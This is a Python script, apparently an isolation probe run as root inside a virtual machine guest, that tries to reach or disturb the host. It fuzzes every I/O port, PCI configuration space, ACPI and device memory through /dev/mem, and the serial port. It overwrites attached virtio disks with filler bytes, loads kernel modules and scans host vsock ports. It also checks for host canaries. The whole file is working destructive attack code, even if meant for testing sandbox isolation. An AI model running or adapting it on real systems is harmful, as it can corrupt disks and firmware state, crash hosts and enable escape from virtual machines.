# What root of a guest does to the devices of its machine, and looks for on its host. Words: what of it, and the names of canaries.
import ctypes, fcntl, mmap, os, random, socket, struct, sys
random.seed(7)
def attempt(name, probe):
    print("try", name, flush=True)
    try: said = probe()
    except OSError as error: said = "refused: " + os.strerror(error.errno or 0)
    print("probe", name, said, flush=True)
def reached(path, name, port, file, key):
    reached = []
    for family, address in ((socket.AF_UNIX, path), (socket.AF_UNIX, "\0" + name), (socket.AF_INET, ("127.0.0.1", int(port)))):
        with socket.socket(family) as probe:
            if probe.connect_ex(address) == 0: reached.append(address)
    if os.path.exists(file): reached.append(file)
    if ctypes.CDLL(None).syscall(249, b"user", key.encode(), None, 0) > 0: reached.append(key)
    return len(reached)
def canaries():
    # What the host has under these names, and a control: what the guest itself has.
    listeners = []
    for family, address in ((socket.AF_UNIX, "/workspace/own"), (socket.AF_UNIX, "\0own"), (socket.AF_INET, ("127.0.0.1", 0))):
        listeners.append(socket.socket(family))
        listeners[-1].bind(address)
        listeners[-1].listen()
    ctypes.CDLL(None).syscall(248, b"user", b"own", b"own", 3, -3)
    own = reached("/workspace/own", "own", listeners[2].getsockname()[1], __file__, "own")
    return "%d of the host, %d of its own" % (reached(*sys.argv[2:7]), own)
def ports():
    # Every port but those that reset the machine or end it.
    if ctypes.CDLL(None, use_errno=True).iopl(3) != 0: raise OSError(ctypes.get_errno(), "iopl")
    # mov edx, edi; in al, dx; movzx eax, al; ret -- mov edx, edi; mov eax, esi; out dx, al; ret
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("89faec0fb6c0c3" "00" "89fa89f0eec3"))
    start = ctypes.addressof(ctypes.c_char.from_buffer(code))
    read = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(start)
    write = ctypes.CFUNCTYPE(None, ctypes.c_int, ctypes.c_int)(start + 8)
    for port in range(0x10000):
        if port in (0x64, 0x92, 0xcf9) or 0x600 <= port < 0x620: continue
        read(port)
        write(port, random.randrange(256))
    return "done"
def windows():
    # The places of devices, as far as this kernel gives them away: pages of words.
    with open("/dev/mem", "r+b", buffering=0) as device:
        for start in range(0xfeb00000, 0xfeb03000, 4096):
            try: yield (ctypes.c_uint32 * 1024).from_buffer(mmap.mmap(device.fileno(), 4096, offset=start))
            except OSError: pass
def memory():
    # This program's own disk may be among them; the way to the host is left.
    ctypes.CDLL(None).mlockall(1)
    done = 0
    for page in windows():
        for place in range(0, 1024, 128):
            if page[place + 2] == 3: continue
            for word in range(place, place + 128):
                page[word] = random.getrandbits(32)
                done += 1
    return "%d words" % done
def beyond():
    # Where there is no memory, and nothing that is known of.
    with open("/proc/iomem") as file: end = max(int(line.split()[0].split("-")[1], 16) + 1 for line in file if "System RAM" in line)
    places, there = [end + 4095 & ~4095] + [1 << bits for bits in range(33, 40)], 0
    with open("/dev/mem", "r+b", buffering=0) as device:
        for start in places:
            try: page = mmap.mmap(device.fileno(), 1 << 16, offset=start)
            except OSError: continue
            there += 1
            for place in range(0, 1 << 16, 512): page[place:place + 4] = page[place + 4:place + 8]
    return "%d places of %d" % (there, len(places))
def serial():
    with open("/dev/ttyS0", "wb", buffering=0) as device:
        for _ in range(256): device.write(random.randbytes(1024))
    return "done"
def load(number):
    try: module = os.open("/workspace/%d.ko" % number, os.O_RDONLY)
    except FileNotFoundError: return -1
    return ctypes.CDLL(None, use_errno=True).syscall(313, module, b"", 0)
def vsock():
    # The guest's own launcher has not loaded what it needs; root can.
    for number in range(3): load(number)
    return "%d answers" % vsock_answers()
def vsock_answers():
    answers = 0
    for context in range(6):
        # Of the host (2), every port that only its root may have.
        for port in [*(range(1024) if context == 2 else (0, 22)), 1024, 1025]:
            with socket.socket(40, socket.SOCK_STREAM) as probe:
                probe.settimeout(1)
                if probe.connect_ex((context, port)) == 0: answers += 1
    return answers
def loopback():
    # A control of the one before: with a transport within the guest, what listens is found.
    if load(3) != 0: return "no module"
    listener = socket.socket(40, socket.SOCK_STREAM)
    listener.bind((0xffffffff, 1024))
    listener.listen()
    return "found" if vsock_answers() > 0 else "not found"
def disks():
    # Every disk, whatever the kernel has been told of it; the scratch disk is the machine's own, and gets what it had.
    written = []
    for name in sorted(os.listdir("/sys/block")):
        if not name.startswith("vd"): continue
        with open("/dev/" + name, "rb") as disk:
            fcntl.ioctl(disk, 0x125d, (0).to_bytes(4, "little"))
            had = disk.read(4096)
        try:
            with open("/dev/" + name, "r+b", buffering=0) as disk:
                disk.write(had if name == "vda" else b"\xa5" * 4096)
                os.fsync(disk.fileno())
            written.append(name)
        except OSError: pass
    return "%d disks, written to %s" % (len([n for n in os.listdir("/sys/block") if n.startswith("vd")]), written)
def balloon():
    kinds = sorted(int(open("/sys/bus/virtio/devices/%s/device" % name).read(), 16) for name in os.listdir("/sys/bus/virtio/devices"))
    return "absent" if 5 not in kinds else "there"
def acpi():
    # What the firmware's tables name.
    done = 0
    with open("/dev/mem", "r+b", buffering=0) as device:
        for start in (0xfea00000, 0xfec00000, 0xfed00000):
            for place in range(start, start + 0x400, 4):
                try:
                    os.pwrite(device.fileno(), random.randbytes(4), place)
                    done += 1
                except OSError: pass
    return "%d words" % done
def words_to_ports():
    if ctypes.CDLL(None).iopl(3) != 0: return None
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov edx, edi; mov eax, esi; out dx, eax; ret
    code.write(bytes.fromhex("89fa89f0efc3"))
    write = ctypes.CFUNCTYPE(None, ctypes.c_int, ctypes.c_uint)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    # Its code lives as long as it does.
    write.code = code
    return write
def pci():
    # The configuration of each function that a bus could have.
    write = words_to_ports()
    if not write: return "refused"
    for function in range(0, 0x10000, 0x100):
        write(0xcf8, 0x80000000 | function)
        write(0xcfc, random.getrandbits(32))
    return "done"
def sleep():
    # Power and sleep of ACPI, last: it may end the machine.
    write = words_to_ports()
    if not write: return "refused"
    for port in range(0x600, 0x620, 4): write(port, random.getrandbits(32))
    return "done"
for name in sys.argv[1].split(","):
    attempt(name, globals()[name])
